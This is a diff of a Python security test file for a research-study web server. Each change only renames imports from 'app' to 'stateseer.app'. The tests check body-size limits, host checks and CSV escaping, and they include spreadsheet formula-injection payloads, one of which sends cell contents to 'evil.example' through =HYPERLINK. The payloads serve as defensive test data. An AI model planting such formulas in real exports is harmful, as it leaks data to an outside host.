@@ -14,14 +14,14 @@ import stat
 
 import pytest
 
-from app.study.spec import StudyError, parse_study
+from stateseer.app.study.spec import StudyError, parse_study
 from tests.conftest import one_line
 
 TOKEN = "admin-token-for-tests"
 
 
 def _doc(run, **extra):
-    from app.explorer.context import RunView
+    from stateseer.app.explorer.runview import RunView
 
     ids = [int(i) for i in RunView(run).traces["test"].rows[:3]]
     doc = {"study": "sec", "run": str(run),
@@ -37,7 +37,7 @@ def _doc(run, **extra):
 
 @pytest.fixture(scope="module")
 def sec_app(explored_run, tmp_path_factory):
-    from app.study.server import create_study_app
+    from stateseer.app.study.server import create_study_app
 
     app = create_study_app(parse_study(_doc(explored_run)), admin_token=TOKEN,
                            db=tmp_path_factory.mktemp("db") / "sec.sqlite")
@@ -171,7 +171,7 @@ def test_join_cannot_choose_an_id_or_re_roll_a_condition(sec_app):
 
 
 def test_a_study_without_generated_ids_gives_no_link_to_strangers(explored_run, tmp_path):
-    from app.study.server import create_study_app
+    from stateseer.app.study.server import create_study_app
 
     app = create_study_app(parse_study(_doc(explored_run, allow_generated_ids=False)),
                            db=tmp_path / "closed.sqlite")
@@ -189,7 +189,7 @@ def test_time_limits_are_enforced_on_the_server(explored_run, tmp_path):
     the page says."""
     import time
 
-    from app.study.server import create_study_app, submit_answer
+    from stateseer.app.study.server import create_study_app, submit_answer
 
     doc = _doc(explored_run, tasks=[{"id": "quick", "prompt": "Quick!", "time_limit_s": 0.2}])
     app = create_study_app(parse_study(doc), db=tmp_path / "timed.sqlite")
@@ -205,7 +205,7 @@ def test_time_limits_are_enforced_on_the_server(explored_run, tmp_path):
 
 
 def test_a_stale_page_cannot_answer_another_task(sec_app):
-    from app.study.server import submit_answer
+    from stateseer.app.study.server import submit_answer
 
     sc = sec_app.study_context
     _open_page(sec_app, "S01")
@@ -257,7 +257,7 @@ def _environ(secret, stream, length=None):
 
 
 def test_event_bodies_over_the_limit_are_refused_before_reading(sec_app):
-    from app.study.routes import MAX_BODY
+    from stateseer.app.study.routes import MAX_BODY
 
     _, secret, _ = _open_page(sec_app, "B01")
     with sec_app.server.request_context(_environ(secret, _Exploding(), 20 * 2**20)):
@@ -271,7 +271,7 @@ def test_event_bodies_over_the_limit_are_refused_before_reading(sec_app):
 
 
 def test_the_dash_endpoint_refuses_large_bodies(sec_app):
-    from app.security import MAX_REQUEST_BYTES
+    from stateseer.app.security import MAX_REQUEST_BYTES
 
     client, secret, _ = _open_page(sec_app, "B02")
     r = client.post("/_dash-update-component", data=b"{" + b" " * (MAX_REQUEST_BYTES + 1),
@@ -283,7 +283,7 @@ def test_the_dash_endpoint_refuses_large_bodies(sec_app):
 def test_a_500_mb_or_endless_body_to_the_dash_endpoint_is_cut_off(sec_app):
     """Neither a 500 MB Content-Length nor an endless chunked body is read past the limit
     (memory stays flat: what is read is bounded by MAX_REQUEST_BYTES)."""
-    from app.security import MAX_REQUEST_BYTES
+    from stateseer.app.security import MAX_REQUEST_BYTES
 
     _, secret, _ = _open_page(sec_app, "B03")
     for stream, length in ((_Exploding(), 500 * 2**20), (_Endless(), None)):
@@ -298,7 +298,7 @@ def test_a_500_mb_or_endless_body_to_the_dash_endpoint_is_cut_off(sec_app):
 
 
 def test_a_30_mb_event_through_the_callback_path_is_refused(sec_app):
-    from app.study.events import Logger
+    from stateseer.app.study.events import Logger
 
     sc = sec_app.study_context
     client, secret, page = _in_condition(sec_app, "full", "B")  # a condition with the input
@@ -318,7 +318,7 @@ def test_a_30_mb_event_through_the_callback_path_is_refused(sec_app):
 
 
 def test_store_size_caps(tmp_path):
-    from app.study.store import StudyLimitError, StudyLog
+    from stateseer.app.study.store import StudyLimitError, StudyLog
 
     log = StudyLog(tmp_path / "caps.sqlite", study="caps", max_events=5, max_participants=2)
     try:
@@ -345,7 +345,7 @@ def test_store_size_caps(tmp_path):
 
 
 def test_the_log_and_the_links_file_are_private(sec_app, tmp_path):
-    from app.study.server import write_links
+    from stateseer.app.study.server import write_links
 
     sc = sec_app.study_context
     assert stat.S_IMODE(os.stat(sc.log.path).st_mode) == 0o600
@@ -386,7 +386,7 @@ def test_callbacks_of_excluded_views_are_refused(sec_app):
 def test_outputs_of_excluded_views_are_dropped_from_a_mixed_callback():
     from flask import Flask, Response
 
-    from app.study.guard import _drop_hidden, excluded_ids
+    from stateseer.app.study.guard import _drop_hidden, excluded_ids
 
     hidden = excluded_ids(("table", "trace_text", "attribution"))
     doc = {"multi": True, "response": {"trace-tokens": {"children": "t"},
@@ -424,8 +424,8 @@ def _row_trace(client, secret):
 
 
 def test_a_condition_without_states_receives_traces_without_states(sec_app):
-    from app.explorer.records import TraceRecord
-    from app.explorer.views.trace import token_strip, trace_title
+    from stateseer.app.explorer.records import TraceRecord
+    from stateseer.app.explorer.views.trace import token_strip, trace_title
 
     client, secret, _ = _baseline(sec_app)
     main = _row_trace(client, secret)
@@ -442,7 +442,7 @@ def test_a_condition_without_states_receives_traces_without_states(sec_app):
 
 
 def test_a_url_cannot_select_a_state_for_a_condition_without_states(sec_app):
-    from app.study.guard import excluded_ids
+    from stateseer.app.study.guard import excluded_ids
 
     client, secret, _ = _baseline(sec_app)
     r = client.get("/_dash-layout",
@@ -462,7 +462,7 @@ EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1+1", "-2+3", "
 def test_csv_cells_are_escaped_in_exports_and_admin_downloads(sec_app, tmp_path):
     import csv
 
-    from app.study.export import export_study
+    from stateseer.app.study.export import export_study
 
     sc = sec_app.study_context
     for k, evil in enumerate(EVIL):
@@ -485,13 +485,13 @@ def test_csv_cells_are_escaped_in_exports_and_admin_downloads(sec_app, tmp_path)
 # -- M7 and Low: hosts, headers, bind warning, parse_ids -------------------------------------
 
 def test_the_explorer_table_download_escapes_formulas(monkeypatch):
-    """M5 in the explorer: the table's CSV download goes through app.csvsafe."""
+    """M5 in the explorer: the table's CSV download goes through stateseer.app.csvsafe."""
     import csv as _csv
     from types import SimpleNamespace
 
-    from app.explorer import ids
-    from app.explorer.view import Trigger
-    from app.explorer.views import table
+    from stateseer.app.explorer import ids
+    from stateseer.app.explorer.view import Trigger
+    from stateseer.app.explorer.views import table
 
     rows = [{"id": 1, "text": '=HYPERLINK("http://evil.example","x")', "label": "+pos",
              "prediction": "@neg", "correct": False, "confidence": -0.5, "length": 3},
@@ -521,7 +521,7 @@ def test_foreign_hosts_and_origins_are_refused_and_headers_set(sec_app):
 
 
 def test_allowed_hosts_extend_the_list(explored_run, tmp_path):
-    from app.study.server import create_study_app
+    from stateseer.app.study.server import create_study_app
 
     app = create_study_app(parse_study(_doc(explored_run)), db=tmp_path / "h.sqlite",
                            allowed_hosts=["lab.example.org"], bind_host="10.1.2.3")
@@ -536,7 +536,7 @@ def test_allowed_hosts_extend_the_list(explored_run, tmp_path):
 
 
 def test_binding_beyond_loopback_warns():
-    from app.security import bind_warning
+    from stateseer.app.security import bind_warning
 
     assert bind_warning("127.0.0.1") is None and bind_warning("localhost") is None
     msg = bind_warning("0.0.0.0", "the study server")
@@ -549,7 +549,7 @@ def test_study_beyond_loopback_warns_once(explored_run, tmp_path, monkeypatch, c
 
     from dash import Dash
 
-    from app.cli import main
+    from stateseer.app.cli import main
 
     monkeypatch.setattr(Dash, "run", lambda self, **kw: None)  # do not serve
     monkeypatch.setattr(signal, "signal", lambda *a: None)
@@ -563,14 +563,14 @@ def test_study_beyond_loopback_warns_once(explored_run, tmp_path, monkeypatch, c
     assert main(argv) == 0  # no admin token: still one warning, without the token note
     err = capsys.readouterr().err
     assert err.count("listens on 0.0.0.0") == 1 and "admin token" not in err
-    from app.study.server import serve_study  # called directly, it warns itself
+    from stateseer.app.study.server import serve_study  # called directly, it warns itself
 
     assert serve_study(study, db=tmp_path / "d.sqlite", host="0.0.0.0") == 0
     assert capsys.readouterr().err.count("listens on 0.0.0.0") == 1
 
 
 def test_parse_ids_refuses_non_ascii_digits():
-    from app.study.answers import parse_ids
+    from stateseer.app.study.answers import parse_ids
 
     for text in ("15, ²", "٣", "15 ¹²"):
         with pytest.raises(StudyError) as err:
@@ -615,8 +615,8 @@ def test_forged_callback_values_get_no_traceback(sec_app):
 
 def test_every_view_component_the_guard_knows_exists_in_the_app(sec_app):
     """The registry's view -> components, as the guard reads them, name real components."""
-    from app.study.guard import _key, component_ids
-    from app.study.spec import VIEWS
+    from stateseer.app.study.guard import _key, component_ids
+    from stateseer.app.study.spec import VIEWS
 
     known = set()
     for key, cb in sec_app.callback_map.items():
@@ -624,7 +624,7 @@ def test_every_view_component_the_guard_knows_exists_in_the_app(sec_app):
         known |= {_key(d["id"]) for d in (*cb["inputs"], *cb.get("state", []))}
     from dash.development.base_component import Component
 
-    from app.explorer.registry import REGISTRY
+    from stateseer.app.explorer.registry import REGISTRY
 
     _, _, page = _open_page(sec_app, "K01")
     # a participant's page leaves excluded views out: the full explorer names the rest
